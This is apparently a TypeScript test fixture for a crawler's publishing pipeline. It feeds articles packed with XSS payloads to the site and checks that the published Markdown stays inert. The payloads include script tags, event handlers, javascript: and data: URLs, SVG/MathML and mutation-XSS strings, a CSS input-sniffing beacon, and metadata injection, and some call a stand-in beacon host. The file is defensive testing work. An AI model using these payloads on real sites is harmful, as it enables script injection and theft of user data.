import { articleHtml, esc, proseTitle } from '../article.ts';
import { at, host } from '../hosts.ts';
import { html } from '../http.ts';
import { articleBody, inertHtmlProblems, renderMarkdown } from '../inert.ts';
import { readArticleFile } from '../../../../crawler/publish/article-file.ts';
import type { HostileRoute, Probe } from '../types.ts';

// Articles that are fine as text but carry script in every form we know: tags, handlers, URLs,
// SVG and MathML, CSS, markup that sanitizers have mis-parsed, Markdown that would turn back
// into links, and the metadata (title, author, description…) that the site prints outside the
// body. They must be published, and no reader's browser may run any of it: the browser test
// (tests/safety/) opens every published page. Each payload calls alert() with its own name, or
// asks for https://beacon.hostile.test/<name>, so a failure says which one got through.

const X = 'xss';
export const BEACON_HOST = 'beacon.hostile.test';
const beacon = (name: string) => `https://${BEACON_HOST}/${name}`;

const scriptAndHandlers = [
  `<script>alert('xss:script')</script>`,
  `<SCRIPT SRC="${beacon('script-src')}"></SCRIPT>`,
  `<img src=x onerror="alert('xss:img-onerror')">`,
  `<p onclick="alert('xss:onclick')" onmouseover="alert('xss:onmouseover')">Hover over the harbor.</p>`,
  `<details open ontoggle="alert('xss:ontoggle')"><summary>More</summary>Details of the harbor.</details>`,
  `<video><source onerror="alert('xss:source-onerror')"></video>`,
  `<input autofocus onfocus="alert('xss:autofocus')">`,
  `<iframe srcdoc="<script>parent.alert('xss:srcdoc')</script>"></iframe>`,
  `<object data="${beacon('object')}"></object><embed src="${beacon('embed')}">`,
  `<form action="${beacon('form')}"><button formaction="javascript:alert('xss:formaction')">Go</button></form>`,
  `<body onload="alert('xss:body-onload')">`,
  `<marquee onstart="alert('xss:marquee')">news</marquee>`,
];

const urls = [
  `<a href="javascript:alert('xss:href')">a javascript link</a>`,
  `<a href="JaVaScRiPt:alert('xss:href-case')">mixed case</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss:href-entities')">entities</a>`,
  `<a href=" &#14; javascript:alert('xss:href-control')">control characters</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzOmRhdGEnKTwvc2NyaXB0Pg==">a data link</a>`,
  `<a href="vbscript:msgbox('xss:vbscript')">vbscript</a>`,
  `<img src="javascript:alert('xss:img-src')"><img src="http://${BEACON_HOST}/img-over-http.png" alt="">`,
  `<img src="https://images.hostile.test/a.png" srcset="javascript:alert('xss:srcset') 1x, data:text/html,x 2x">`,
  `<iframe src="javascript:alert('xss:iframe-src')"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('xss:refresh')">`,
  `<base href="javascript:alert('xss:base')//">`,
  `<a href="//${BEACON_HOST}/protocol-relative">protocol-relative</a>`,
];

const svgAndMath = [
  `<svg onload="alert('xss:svg-onload')"><circle r="5"/></svg>`,
  `<svg><script>alert('xss:svg-script')</script></svg>`,
  `<svg><a xlink:href="javascript:alert('xss:svg-xlink')"><text x="0" y="20">click</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:alert('xss:svg-animate')"/><text x="20" y="20">click</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:alert('xss:foreign')"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('xss:mglyph')"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert('xss:math-href')"><mi>x</mi></math>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoJ3hzczpkYXRhLXN2ZycpIi8+">`,
  `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x"/></svg>`,
];

const css = [
  `<style>@import url("${beacon('css-import')}"); body { background: url("${beacon('css-bg')}") }</style>`,
  `<p style="background:url('${beacon('style-attr')}')">Styled harbor text.</p>`,
  `<link rel="stylesheet" href="${beacon('stylesheet')}">`,
  `<div style="width: expression(alert('xss:expression'))">old IE</div>`,
  `<style>input[value^="a"] { background: url("${beacon('keylogger')}") }</style>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:red">overlay</div>`,
  `<font face="x" color="red" style="font-size:500px">big</font>`,
  `<style>@font-face { font-family: x; src: url("${beacon('font')}") }</style>`,
];

const mutation = [
  `<noscript><p title="</noscript><img src=x onerror=alert('xss:noscript')>"></noscript>`,
  `<template><script>alert('xss:template')</script><img src=x onerror=alert('xss:template-img')></template>`,
  `<textarea></textarea><script>alert('xss:after-textarea')</script>`,
  `<!--<img src="--><img src=x onerror=alert('xss:comment')//">`,
  `<![CDATA[><img src=x onerror=alert('xss:cdata')>]]>`,
  `<scr<script>ipt>alert('xss:split')</scr</script>ipt>`,
  `<table><td><img src=x onerror=alert('xss:table')></td></table>`,
  `<select><style></select><img src=x onerror=alert('xss:select')></style></select>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('xss:form-math')>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert('xss:svg-style')>">`,
  `<xmp><img src=x onerror=alert('xss:xmp')></xmp>`,
  `<iframe><img src=x onerror=alert('xss:iframe-text')></iframe>`,
  `<title><img src=x onerror=alert('xss:title-in-body')></title>`,
  `<a href="https://ok.hostile.test/" title='"><img src=x onerror=alert("xss:attr-break")>'>a link with a quoted title</a>`,
  `<img """><script>alert('xss:quotes')</script>">`,
];

// What an attack corpus found in the site's old regex re-sanitizer: "<style" inside a quoted
// attribute value made it drop text up to the next ">", so the URL of the tag after it was parsed
// as attributes and a "/onerror=…" in it went live, in pages and in every feed.
const attributeText = [
  `<p><img alt="<style" src="https://images.hostile.test/a.png"><img src="https://images.hostile.test/b/onerror=alert('xss:alt-style')//c.png" alt="b"></p>`,
  `<p><a title="x <script y" href="https://ok.hostile.test/z">t</a><a href="https://ok.hostile.test/q/onmouseover=alert('xss:title-script')//">u</a></p>`,
  `<figure><img src="https://images.hostile.test/d.png" alt="a &quot;quoted&quot; <iframe> and a '<style>'"><figcaption>x</figcaption></figure><p><img src="https://images.hostile.test/e/onload=alert('xss:fig')//f.png"></p>`,
  `<blockquote cite="https://ok.hostile.test/<style"><p>A quote</p></blockquote><p><a href="https://ok.hostile.test/r/onfocus=alert('xss:cite')//">r</a></p>`,
];

// URLs a Markdown renderer cannot decode (a lone "%", an escape that is not UTF-8): one of them
// used to stop the whole site's build. They must be repaired when the article is cleaned.
const undecodableUrls = [
  `<p>Prices fell <a href="100%">100%</a> and <a href="https://ok.hostile.test/50%off">50%off</a>.</p>`,
  `<p><img src="https://images.hostile.test/100%.png" alt="a chart"> <img src="https://images.hostile.test/%E0%A4%A.png" alt="a bad escape"></p>`,
  `<blockquote cite="https://ok.hostile.test/%zz"><p>A quote from <a href="https://ok.hostile.test/%FF%FE">somewhere</a>.</p></blockquote>`,
];

/** The Markdown renders (the build's renderer decodes every link and image URL) and holds nothing that could run. */
function renderable(url: string) {
  return async (probe: Probe): Promise<string[]> => {
    const article = probe.article(url);
    if (!article?.fileText) return ['no Markdown file was written'];
    try {
      return inertHtmlProblems(await renderMarkdown(articleBody(article.fileText)));
    } catch (error) {
      return [`the Markdown does not render: ${(error as Error).message}`];
    }
  };
}

const markdownish = [
  `<p>Plain text that looks like markup: &lt;script&gt;alert('xss:text-script')&lt;/script&gt; and &lt;img src=x onerror=alert('xss:text-img')&gt; in the harbor.</p>`,
  `<p>[click me](javascript:alert('xss:md-link')) and ![x](javascript:alert('xss:md-image')) and &lt;javascript:alert('xss:md-autolink')&gt;</p>`,
  `<p>[reference][evil] and an HTML comment &lt;!-- --&gt;&lt;script&gt;alert('xss:md-comment')&lt;/script&gt;</p><p>[evil]: javascript:alert('xss:md-reference')</p>`,
  `<p><a href="https://ok.hostile.test/">[inner](javascript:alert('xss:md-nested'))</a></p>`,
  `<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert('xss:code-escape')&lt;/script&gt;</code></pre>`,
  `<p>A line that ends with two backticks \`\` and &lt;svg onload=alert('xss:md-svg')&gt; then {{ 7*7 }} and \${alert('xss:template-literal')}</p>`,
  `<p>&lt;style&gt;body{display:none}&lt;/style&gt; is text, and so is &lt;iframe src=javascript:alert('xss:md-iframe')&gt;</p>`,
];

/** The published Markdown, rendered the way the site renders it, holds nothing that could run, restyle or fetch. */
function inertMarkdown(url: string) {
  return async (probe: Probe): Promise<string[]> => {
    const article = probe.article(url);
    if (!article?.fileText) return ['no Markdown file was written'];
    return inertHtmlProblems(await renderMarkdown(articleBody(article.fileText)));
  };
}

function xssRoute(id: string, attack: string, seed: number, payloads: string[]): HostileRoute {
  const url = at(X, `/${id}`);
  return {
    id,
    attack,
    kind: 'page',
    url,
    resources: [{ host: host(X), path: `/${id}`, http: html(articleHtml({ seed, between: payloads, after: payloads.join('\n') })) }],
    expect: { outcome: 'published' },
    verify: inertMarkdown(url),
  };
}

const metaSeed = 607;
const metaTitle = proseTitle(metaSeed);

export const xssRoutes: HostileRoute[] = [
  xssRoute('xss-script-handlers', 'script tags and event handlers in the body', 601, scriptAndHandlers),
  xssRoute('xss-urls', 'javascript:, data: and vbscript: URLs, meta refresh and base', 602, urls),
  xssRoute('xss-svg-mathml', 'SVG and MathML tricks', 603, svgAndMath),
  xssRoute('xss-css', 'CSS injection: @import, url(), expression(), overlays', 604, css),
  xssRoute('xss-mutation', 'broken markup that sanitizers have mis-parsed (mXSS)', 605, mutation),
  xssRoute('xss-markdown', 'text that would become script once turned into Markdown', 606, markdownish),
  xssRoute('xss-attribute-text', 'tag-like text inside quoted attribute values, then handlers inside URLs', 608, attributeText),
  { ...xssRoute('undecodable-urls', 'link and image URLs with a lone % or escapes that are not UTF-8', 609, undecodableUrls), verify: renderable(at(X, '/undecodable-urls')) },
  {
    id: 'xss-metadata',
    attack: 'script in the title, author, description, site name, JSON-LD, favicon and image URLs',
    kind: 'page',
    url: at(X, '/xss-metadata'),
    resources: [
      {
        host: host(X),
        path: '/xss-metadata',
        http: html(
          articleHtml({
            seed: metaSeed,
            title: `${metaTitle} </title><script>alert('xss:title')</script>`,
            titleHtml: `${esc(metaTitle)} &lt;/title&gt;&lt;script&gt;alert('xss:title')&lt;/script&gt;`,
            h1Html: `${esc(metaTitle)} <img src=x onerror="alert('xss:h1')">`,
            author: `Mallory <img src=x onerror="alert('xss:author')"> "</script><script>alert('xss:author-script')</script>`,
            siteName: `Hostile</script><svg onload="alert('xss:site-name')">`,
            head: [
              `<meta name="description" content="&quot;&gt;&lt;/script&gt;&lt;script&gt;alert('xss:description')&lt;/script&gt;">`,
              `<link rel="icon" href="javascript:alert('xss:favicon')">`,
              `<meta property="og:image" content="javascript:alert('xss:og-image')">`,
              `<link rel="canonical" href="javascript:alert('xss:canonical')">`,
              `<meta property="article:published_time" content="2026-03-01T09:00:00Z&quot;&gt;&lt;script&gt;alert('xss:date')&lt;/script&gt;">`,
              `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"${metaTitle} <\\/script><script>alert('xss:jsonld')<\\/script>","author":{"@type":"Person","name":"</script><script>alert('xss:jsonld-author')</script>"},"image":"javascript:alert('xss:jsonld-image')","description":"<img src=x onerror=alert('xss:jsonld-description')>"}</script>`,
            ].join('\n'),
          }),
        ),
      },
    ],
    expect: { outcome: 'published' },
    verify: async (probe) => {
      const article = probe.article(at(X, '/xss-metadata'));
      const problems = await inertMarkdown(at(X, '/xss-metadata'))(probe);
      const read = article?.fileText ? readArticleFile(article.fileText) : null;
      if (read && !read.ok) problems.push(`the file is not an article: ${read.problem}`);
      if (read?.ok && /javascript:/i.test(JSON.stringify(read.frontmatter))) problems.push('a javascript: URL in the frontmatter');
      return problems;
    },
  },
];
